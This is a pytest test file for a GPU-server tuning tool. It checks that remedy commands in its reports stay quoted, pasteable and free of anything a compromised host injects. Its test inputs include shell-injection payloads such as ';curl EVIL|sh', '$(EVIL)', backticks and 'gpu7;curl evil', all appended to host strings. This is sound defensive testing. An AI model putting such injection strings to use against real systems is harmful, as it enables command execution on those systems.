"""Whatever strings a host claims, every command that a report shows is the command that was meant."""

from __future__ import annotations

import ast
import dataclasses
import html
import json
import random
import re
import shlex
import subprocess
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from tests.unit.checks.machines import build, spec_of
from tests.unit.checks.measurements import measured
from tests.unit.checks.test_cases import CASES, check_of, read
from tests.unit.fleet import reports

import tunecheck.rules
from tunecheck.facts.snapshot import Snapshot, gather
from tunecheck.model.command import Command, host, limited, pieces, run
from tunecheck.model.finding import Finding, Place, Remedy
from tunecheck.report.document import Run, document
from tunecheck.report.html import html as page
from tunecheck.report.style import Style
from tunecheck.report.terminal import render
from tunecheck.rules.context import Case
from tunecheck.rules.index import BY_ID, CHECKS
from tunecheck.spec.frozen import Frozen
from tunecheck_fleet.judge.causes import causes
from tunecheck_fleet.judge.rows import Row
from tunecheck_fleet.outputs.html import html as fleet_page

#: Made by the control node from what the host said, never by the host.
_OURS = ("source", "reason", "relation", "kind")
#: Each has in it what a shell acts on, or what Ansible's -l takes for more than one host.
EVIL = (";curl EVIL|sh", "$(EVIL)", "`EVIL`", "' EVIL '", '" EVIL "', " EVIL", "\nEVIL", "|EVIL", "&EVIL", "<EVIL>",
        "*EVIL", "!EVIL", "\\EVIL", "\u202eEVIL", "run: EVIL;", "{EVIL,x}", "#EVIL")
#: What only the words of a command may hold: everything that a shell takes as it is, and the one script of ours.
PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
#: Words for the kernel command line, in grubby's options.
BOOT_WORDS = re.compile(rf"--(?:remove-)?args={PLAIN.pattern}(?: {PLAIN.pattern})*")
SCRIPT = re.compile(r"(?:echo [a-z0-9:.-]+ > /sys/[a-z0-9/:._]+(?: && |$))+"
                    r"|echo [a-z0-9_]+ \| tee(?: /sys/[a-z0-9/:._*]+)+")
#: What is looked for in the kernel log: words of ours, quoted.
SOUGHT = re.compile(r"[A-Za-z0-9_]+(?:[| ][A-Za-z0-9_]+)*")
RULES_OF = Path(tunecheck.rules.__file__).parent
GIVES = re.compile(r"\b(?:run|play|hold|smi|install|release|boot_fix|clear_now|typed)\(")


@cache
def _gives_commands(check: str) -> bool:
    """Whether the check's own file makes commands."""
    source = RULES_OF / f"{BY_ID[check].module.replace('.', '/')}.py"
    return source.exists() and GIVES.search(source.read_text(encoding="utf-8")) is not None


def _cases(path: Path) -> tuple[Snapshot, Frozen | None, Callable[[Snapshot, Frozen | None], Case]]:
    data = read(path)
    if "measured" in data:
        data = {"machine": "clear", **data}
    frozen = spec_of(data)
    snapshot = gather(build(data), frozen.spec if frozen else None, data.get("verb", "preflight") != "topo")
    found = measured(data["measured"], len(snapshot.topology.devices)) if data.get("measured") is not None else None
    return snapshot, frozen, lambda snapshot, frozen: Case(snapshot, frozen, False, None, found)


def _claims(value: Any, chance: random.Random, share: float) -> Any:
    """The same facts from a host that lies: to some of its strings something evil is added."""
    if isinstance(value, str):
        return value + chance.choice(EVIL) if chance.random() < share else value
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return dataclasses.replace(value, **{
            field.name: _claims(getattr(value, field.name), chance, share) for field in dataclasses.fields(value)
            if field.init and field.name not in _OURS})
    if isinstance(value, dict):
        return {key: _claims(each, chance, share) for key, each in value.items()}
    if isinstance(value, (tuple, list)):
        return type(value)(_claims(each, chance, share) for each in value)
    return value


def _check(command: Command) -> None:
    assert shlex.split(command.shown) == list(command.argv)
    assert "EVIL" not in command.shown
    for word in command.argv:
        sought = "-g" in command.argv and SOUGHT.fullmatch(word)
        assert PLAIN.fullmatch(word) or SCRIPT.fullmatch(word) or BOOT_WORDS.fullmatch(word) or sought, command


def _lied_to(path: Path, tries: int) -> Iterator[Finding]:
    snapshot, frozen, case = _cases(path)
    check = next(check for check in CHECKS if check.id == check_of(path))
    chance = random.Random(path.stem)
    for share in (0.0, *([0.02, 0.2, 1.0][number % 3] for number in range(tries))):
        lies = _claims(snapshot, chance, share) if share else snapshot
        named = dataclasses.replace(frozen, host=_claims(frozen.host, chance, min(1.0, share * 2))) if frozen else None
        yield from check.judge(case(lies, named))


@cache
def _judged(path: Path) -> tuple[Finding, ...]:
    """What the check of a case says of it."""
    snapshot, frozen, case = _cases(path)
    return tuple(BY_ID[check_of(path)].judge(case(snapshot, frozen)))


CLAIMED = [path for path in CASES if _gives_commands(check_of(path))]


def test_the_cases_reach_every_rule_that_gives_commands() -> None:
    assert len({check_of(path) for path in CLAIMED}) > 25


@pytest.mark.parametrize("path", CLAIMED, ids=lambda path: path.stem)
def test_no_claim_of_a_host_gets_into_a_command(path: Path) -> None:
    for finding in _lied_to(path, 6):
        for command in finding.remedy.commands if finding.remedy else ():
            _check(command)
            assert command.shown in finding.message or finding.outcome in ("pass", "skip")


def test_what_only_root_may_do_can_be_pasted_by_anybody_who_may_use_sudo() -> None:
    commands = {command for path in CLAIMED for finding in _judged(path) if finding.remedy
                for command in finding.remedy.commands if command.where == "box"}
    assert [command.shown for command in commands if command.as_root and command.argv[0] != "sudo"] == []
    for reads in ("nvidia-smi nvlink -e", "tunecheck preflight --from box/", "tunecheck explain host-memory",
                  "systemctl status restart.service"):
        assert not run(reads).as_root and run(reads).argv[0] != "sudo", reads


@pytest.mark.parametrize(("name", "limit"), [
    ("gpu7", "gpu7"), ("gpu-7.rack_1", "gpu-7.rack_1"), ("gpu7;curl evil", "HOST"), ("all", "HOST"), ("-e", "HOST"),
    ("@hosts", "HOST"), ("~gpu", "HOST"), ("a,b", "HOST"), ("!a", "HOST"), ("a:b", "HOST"), ("gpu*", "HOST"),
    ("", "HOST"), ("ungrouped", "HOST"), ("g" * 254, "HOST"), ("gpu7\n", "HOST"), (None, "HOST")])
def test_a_play_is_limited_to_one_host_or_to_a_word_to_fill_in(name: str | None, limit: str) -> None:
    assert host(name) == limit


def test_the_words_of_a_command_are_quoted_once() -> None:
    command = run("sudo sh -c", "echo 'a b' > /x y")
    assert shlex.split(command.shown) == ["sudo", "sh", "-c", "echo 'a b' > /x y"]
    for bad in (("x", ""), (), ("x", "a\nb"), ("x", "\x1b[2J"), ("x", "\u202e")):
        with pytest.raises(ValueError, match=re.escape(repr(bad))):
            Command(bad)


def test_every_output_shows_the_same_commands() -> None:
    """Terminal, JSON, page: a finding with prose before, between and behind its commands."""
    remedy = Remedy.of("first that, then run: ", run("apt-mark hold", "a b;c"), ", and ",
                       run("ansible-playbook site.yml -l gpu1", where="control"), " (after every boot)")
    finding = Finding("swap", "swap-active", "it", "fail", "effective", "is wrong; run: curl EVIL", remedy=remedy)
    shown = [command.shown for command in remedy.commands]
    assert shown == ["sudo apt-mark hold 'a b;c'", "ansible-playbook site.yml -l gpu1"]
    path = next(path for path in CASES if path.stem == "swap-on" or check_of(path) == "swap")
    snapshot, frozen, case = _cases(path)
    told = document("host", case(snapshot, frozen), [finding])["findings"][0]["remedy"]
    assert [shlex.split(each["shown"]) for each in told["commands"]] == [each["argv"] for each in told["commands"]]
    assert [each["where"] for each in told["commands"]] == ["box", "control"]
    assert all(each["shown"] in told["text"] for each in told["commands"])
    text = render("host", case(snapshot, frozen), [finding], Style())
    assert f"fix: {remedy.text}\n" in text
    data = document("host", case(snapshot, frozen), [finding])
    copied = re.findall(r'data-copy="([^"]*)"', page(Run(data, [finding], datetime.now(UTC))))
    assert [html.unescape(each) for each in copied] == shown * (len(copied) // 2) and copied


def test_the_page_of_a_fleet_copies_the_command_of_a_cause_and_of_a_box() -> None:
    problem = reports.problem(**reports.play("acs", "gpu001"))
    loose = reports.problem(remedy="run: curl EVIL", commands=())
    rows = (reports.row("gpu001", problems=(problem, loose), outcomes={"acs": "fail"}),)
    told = (reports.cause(**reports.play("kernel_cmdline", "gpu001")), reports.cause(remedy="run: curl EVIL"))
    text = fleet_page(reports.report(hosts=rows, causes=told))
    assert re.findall(r'data-copy="([^"]*)"', text) == ["ansible-playbook site.yml --tags kernel_cmdline -l gpu001"]
    given = json.loads(re.search(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL)[1])
    fixes = [[(given["texts"][said], place) for said, place in each[4]] for each in given["problems"]]
    assert fixes == [[("run: ", ""), ("ansible-playbook site.yml --tags acs -l gpu001", "on the control node")],
                     [("run: curl EVIL", "")]]


def test_what_was_cut_off_or_masked_is_no_command_any_more() -> None:
    remedy = Remedy.of("run: ", run("apt-mark hold", "abc", "def"), ", then ", run("reboot"))
    assert [command for _, command in pieces(remedy.text[:20], remedy.commands) if command] == []
    masked = remedy.text.replace("abc", "***")
    assert [part for part, command in pieces(masked, remedy.commands) if command] == ["reboot"]


def test_a_fleet_names_its_own_hosts_in_a_play_not_what_boxes_call_themselves() -> None:
    play = Remedy.of("run: ", run("ansible-playbook site.yml --tags acs -l", "all-of-them", where="control"))
    for hosts, limit in ((("gpu1",), "gpu1"), (("gpu1", "gpu2"), "gpu1,gpu2"), (("a;b",), "HOST"),
                         (("a", "b;c"), "HOSTS"), (tuple(f"g{number}" for number in range(11)), "HOSTS")):
        text, commands = limited(play.text, play.commands, hosts)
        assert text == f"run: ansible-playbook site.yml --tags acs -l {limit}" == f"run: {commands[0].shown}"
        rows = [Row("desired", "high", "swap", "g", name, "desired", "none", remedy=play.text, commands=play.commands)
                for name in hosts]
        (cause,) = causes(rows)
        assert (cause.remedy, cause.commands) == (text, commands)


def test_no_rule_hides_a_command_in_its_words() -> None:
    """"run: " stands before a Command, never before text."""
    hidden = [f"{path.name}:{node.lineno}" for path in sorted(RULES_OF.rglob("*.py")) for node in ast.walk(
        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Constant) and isinstance(node.value, str)
        and re.search(r"\brun: [^\s`]", node.value)]
    assert not hidden


def test_what_is_typed_is_written_in_the_rule() -> None:
    """typed("..."): back-ticks make a command, so no value of a host may be put into the sentence before."""
    calls = [(path.name, node) for path in sorted(RULES_OF.rglob("*.py")) for node in ast.walk(
        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call) and node.args
        and getattr(node.func, "attr", getattr(node.func, "id", "")) == "typed"]
    put_in = [(name, node.lineno) for name, node in calls for part in ast.walk(node.args[0])
              if isinstance(part, ast.FormattedValue)
              and not (isinstance(part.value, ast.Name) and part.value.id.isupper())]
    assert len(calls) > 30 and not put_in


#: What the commands of remedies begin with, "sudo" left aside. A new one is written here, and so looked for in prose.
PROGRAMS = {
    "all_reduce_perf", "ansible-playbook", "apt-mark", "cat", "chcpu", "cpupower", "dkms", "dmesg", "dnf", "dracut",
    "find", "grep", "grubby", "ibstat", "journalctl", "lsmod", "lspci", "modinfo", "modprobe", "mokutil",
    "nvbandwidth", "nvidia-ctk", "nvidia-modprobe", "nvidia-smi", "p2pBandwidthLatencyTest", "ps", "rdma", "setpci",
    "sh", "sysctl", "systemctl", "systemd-detect-virt", "tail", "tunecheck", "update-grub", "update-initramfs"}
#: A program with an argument, as it stands in a sentence.
COMMAND = re.compile(rf"(?<![\w/.-])(?:sudo )?(?:{'|'.join(sorted(PROGRAMS | {'apt', 'apt-get'}))})"
                     r"(?: -{1,2}[\w-]+| (?:status|show|topo|explain|p2p|preflight|record|generate)\b)")
#: Programs whose names are no words of a sentence: named there, they are a command without its arguments.
BARE = re.compile(r"(?<![\w/.-])(?:sudo \w+|grubby|update-grub|update-initramfs|dracut|lsinitramfs|lsinitrd|chcpu|"
                  r"setpci|journalctl)(?![\w.-])")
#: What a person has to fill in is written in capitals; these are capitals of the programs.
KEPT_CAPITALS = ("NVRM", "ALL", "ECC", "POWER", "PERFORMANCE", "ROW_REMAPPER")
CAPITALS = re.compile(r"(?:^|[/=,-])([A-Z]{3,})(?=$|[/=,])")
#: Words that say that the box has to boot again, or has to be switched off.
BOOTS = re.compile(r"\breboots?\b|\bboot with|\bboot without|boot configuration|\bthe BIOS\b|power-cycle|"
                   r"switch(?:ed)? the machine off|load(?:ed)? .*(?:again|anew)")


@pytest.mark.parametrize("chosen", [CASES[start::8] for start in range(8)], ids=range(8))
def test_every_command_of_a_remedy_is_a_field(chosen: list[Path]) -> None:
    """What a person types is never only in the prose; the way by hand stands before the play, and both are the text."""
    for path in chosen:
        for finding in _judged(path):
            fix = finding.remedy
            if fix is None:
                continue
            prose = "".join(part for part in fix.parts if isinstance(part, str))
            assert not COMMAND.search(prose) and not BARE.search(prose) and "`" not in fix.text, (path.stem, fix.text)
            assert [part.shown for part in fix.parts if isinstance(part, Command)] == [
                each.shown for each in fix.commands], fix.text
            assert fix.text.endswith(fix.play_text) and fix.text.startswith(fix.by_hand)
            assert not fix.play_text or (fix.play is not None and fix.play.where == "control")


def _remedies() -> Iterator[tuple[str, Remedy]]:
    """Every remedy that the cases reach, once."""
    seen = set()
    for path in CASES:
        check = check_of(path)
        for finding in _judged(path):
            assert finding.outcome != "pass" or finding.remedy is None, (path.stem, "a pass has nothing to mend")
            if finding.remedy and (check, finding.remedy) not in seen:
                seen.add((check, finding.remedy))
                yield path.stem, finding.remedy


def test_every_command_can_be_pasted() -> None:
    """A shell takes it, it begins with a program that we know, and what has to be filled in first is told as such."""
    commands = {command: name for name, fix in _remedies() for command in fix.commands}
    for command, name in commands.items():
        words = command.argv[1:] if command.argv[0] == "sudo" else command.argv
        assert words[0] in PROGRAMS and not {">", "<", "|", "&&", ";"} & set(words), (name, command.shown)
        left = {found for word in words for found in CAPITALS.findall(word)} - set(KEPT_CAPITALS)
        assert left == set(command.fill_in), (name, command.shown)
        assert command.where == ("control" if words[0] == "ansible-playbook" else "box"), (name, command.shown)
    lines = "\n".join(command.shown for command in commands)
    done = subprocess.run(["bash", "-n"], input=lines, capture_output=True, text=True, timeout=60, check=False)
    assert len(commands) > 80 and (done.returncode, done.stderr) == (0, "")


def test_a_remedy_says_where_it_is_done_and_whether_the_box_boots_again() -> None:
    """The first of several ways decides: what stands behind "or" or ";" may be something else."""
    for name, fix in _remedies():
        first = re.split(r"; |,? or (?!bifurc)", fix.text)[0]
        if BOOTS.search(first):
            assert fix.needs_reboot or fix.place is Place.MACHINE, (name, fix.text)
        if fix.needs_reboot and not fix.play:      # a play boots the box itself
            assert BOOTS.search(fix.text), (name, fix.text)
        if fix.place is Place.FIRMWARE and "BMC" not in first:
            assert fix.needs_reboot, (name, fix.text)
        if "BIOS" in first:
            assert fix.physical, (name, fix.text)
        if re.search(r"\b(?:reseat|airflow|seating|power-cycle the host|replace the board|boards below one)\b", first):
            assert fix.place is not Place.BOX, (name, fix.text)


def test_the_first_words_of_a_command_are_written_in_the_rule() -> None:
    """run("..."): a line that holds what a host says would be split at its spaces."""
    calls = [(path.name, node) for path in sorted(RULES_OF.rglob("*.py")) for node in ast.walk(
        ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name) and node.func.id == "run"]
    ours = {("from_nvml.py", "smi"), ("from_driver.py", "hold")}
    loose = [(name, node.lineno) for name, node in calls if not isinstance(node.args[0], ast.Constant)
             and name not in {file for file, _ in ours}]
    assert len(calls) > 20 and not loose
